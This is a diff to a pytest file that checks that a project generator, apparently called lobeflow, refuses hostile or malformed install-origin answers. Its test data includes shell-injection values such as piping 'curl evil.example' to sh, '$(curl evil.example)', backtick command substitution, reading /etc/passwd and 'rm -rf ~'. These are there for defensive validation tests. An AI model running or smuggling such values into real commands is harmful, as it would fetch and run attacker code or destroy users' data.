@@ -3,14 +3,25 @@
 from __future__ import annotations
 
 import shlex
+import subprocess
+import sys
 import tomllib
 from pathlib import Path
 
 import pytest
 from lobeflow import provenance
-from lobeflow.provenance import LobeflowSource, source_from_direct_url
+from lobeflow.errors import InvalidAnswerError
+from lobeflow.provenance import (
+    PIP_INSTALL_ANSWER,
+    UV_SOURCE_ANSWER,
+    LobeflowSource,
+    answer_error,
+    source_from_direct_url,
+)
 
 from tests.helpers import run_cli
+
+REPO = Path(__file__).resolve().parent.parent
 
 COMMIT = "0123456789abcdef0123456789abcdef01234567"
 
@@ -80,6 +91,9 @@ def test_direct_url_records_become_uv_sources_and_pip_arguments(
     assert source is not None
     assert _table(source) == table
     assert shlex.split(source.pip_args) == pip_args
+    # What lobeflow writes passes the check plain `copier copy --data` gets too.
+    assert answer_error(UV_SOURCE_ANSWER, source.uv_source) == ""
+    assert answer_error(PIP_INSTALL_ANSWER, source.pip_args) == ""
 
 
 @pytest.mark.parametrize(
@@ -143,3 +157,86 @@ def test_lobeflow_new_records_the_source_in_pyproject_and_readme(
     # Machine-specific: never written to the answers file that `lobeflow update` reads.
     answers = (dest / ".lobeflow" / "users.yml").read_text(encoding="utf-8")
     assert "git.example" not in answers
+
+
+HOSTILE_UV_SOURCES = [
+    '{ path = "/src" }\n[tool.evil]\nx = 1',
+    '{ path = "/src" } # `x`',
+    '{ path = "/src", extra = "y" }',
+    '{ path = "/src", git = "https://git.example/x.git" }',
+    "{ editable = true }",
+    '{ path = "" }',
+    "{ path = 1 }",
+    '"/src/lobeflow"',
+    '{ path = "/src" ',
+    '{ path = "/src" }\r',
+]
+HOSTILE_PIP_ARGS = [
+    "lobeflow; curl evil.example | sh",
+    "lobeflow\ncurl evil.example",
+    "$(curl evil.example)",
+    "lobeflow `id`",
+    "-r /etc/passwd",
+    "-e",
+    "lobeflow extra",
+    "'lobeflow'",
+    "",
+]
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [(UV_SOURCE_ANSWER, value) for value in HOSTILE_UV_SOURCES]
+    + [(PIP_INSTALL_ANSWER, value) for value in HOSTILE_PIP_ARGS]
+    + [(UV_SOURCE_ANSWER, 7), (PIP_INSTALL_ANSWER, None)],
+)
+def test_hostile_or_malformed_origin_answers_are_refused(name: str, value: object) -> None:
+    error = answer_error(name, value)
+    assert error.startswith(name) and "\n" not in error
+
+
+@pytest.mark.parametrize(
+    ("name", "value"), [(UV_SOURCE_ANSWER, ""), (PIP_INSTALL_ANSWER, "lobeflow")]
+)
+def test_the_registry_defaults_pass(name: str, value: str) -> None:
+    assert answer_error(name, value) == ""
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [(UV_SOURCE_ANSWER, HOSTILE_UV_SOURCES[0]), (PIP_INSTALL_ANSWER, HOSTILE_PIP_ARGS[0])],
+)
+def test_plain_copier_refuses_a_hostile_origin_and_writes_nothing(
+    tmp_path: Path, name: str, value: str
+) -> None:
+    dest = tmp_path / "shop"
+    copier = str(Path(sys.executable).parent / "copier")
+    args = [copier, "copy", "--trust", "--defaults", "--vcs-ref", "HEAD"]
+    args += ["--data", "entity=user", "--data", f"{name}={value}", str(REPO), str(dest)]
+    proc = subprocess.run(args, capture_output=True, text=True, timeout=120, check=False)
+    assert proc.returncode != 0, proc.stdout
+    last = proc.stderr.strip().splitlines()[-1]
+    assert f"Validation error for question '{name}': {name} " in last
+    assert not dest.exists()
+
+
+def test_lobeflow_new_refuses_an_origin_it_cannot_write(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # A checkout whose path holds a line break: the README's pip line would break in two.
+    record = {"url": Path("/src/lobe\nflow").as_uri(), "dir_info": {"editable": True}}
+    monkeypatch.setattr(provenance, "installed_direct_url", lambda *_: record)
+    with pytest.raises(InvalidAnswerError):
+        provenance.lobeflow_source()
+    dest = tmp_path / "shop"
+    result = run_cli("new", "user", "--dest", str(dest), "--defaults")
+    assert result.exit_code == 1
+    assert result.stderr.strip().count("\n") == 0, result.stderr
+    assert "lobeflow's install origin cannot be written" in result.stderr
+    assert not dest.exists()
+
+
+def test_a_source_lobeflow_would_not_write_is_refused() -> None:
+    with pytest.raises(InvalidAnswerError, match=PIP_INSTALL_ANSWER):
+        LobeflowSource('{ path = "/src" }', "/src; rm -rf ~")
